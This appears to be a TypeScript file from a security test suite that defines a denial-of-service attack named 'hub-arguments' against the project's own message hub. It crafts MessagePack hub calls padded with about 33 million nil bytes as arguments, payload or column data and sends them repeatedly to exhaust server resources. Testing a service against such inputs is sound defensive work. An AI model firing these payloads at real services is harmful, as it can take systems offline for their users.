import { encode } from '@msgpack/msgpack';
import { binaryMessage } from '../../src/hub/protocol/message-formats.ts';
import { type Attack, again, exchange, openHub } from './attack.ts';

const count = 32 * 2 ** 20 - 1000;

/** A call with so many nil: as arguments of their own, as a payload, or as a column of one. */
function call(before: readonly Buffer[]): Buffer {
  const many = Buffer.alloc(5, 0xdd);
  many.writeUInt32BE(count, 1);
  const head = [1, {}, '1', 'SendParameterData'].map((part) => Buffer.from(encode(part)));
  return binaryMessage(
    Buffer.concat([Buffer.from([0x95]), ...head, ...before, many, Buffer.alloc(count, 0xc0)]),
  );
}

/** Point 1: one message to the hub that becomes very much. */
export const hubArguments: Attack = {
  name: 'hub-arguments',
  title: 'calls of the hub with 33 million nil: as arguments, as a payload, in a column',
  async run(target) {
    const names = ['topic', 'stream'].map((name) => Buffer.from(encode(name)));
    const inColumn = ['numericValues', 'a'].flatMap((name) => [
      Buffer.from([0x81]),
      Buffer.from(encode(name)),
    ]);
    const three = [Buffer.from([0x93]), ...names];
    const calls = [call([]), call(three), call([...three, ...inColumn])];
    let next = 0;
    await again(2, async () => exchange(await openHub(target, 'messagepack'), calls[next++ % calls.length]!));
  },
};
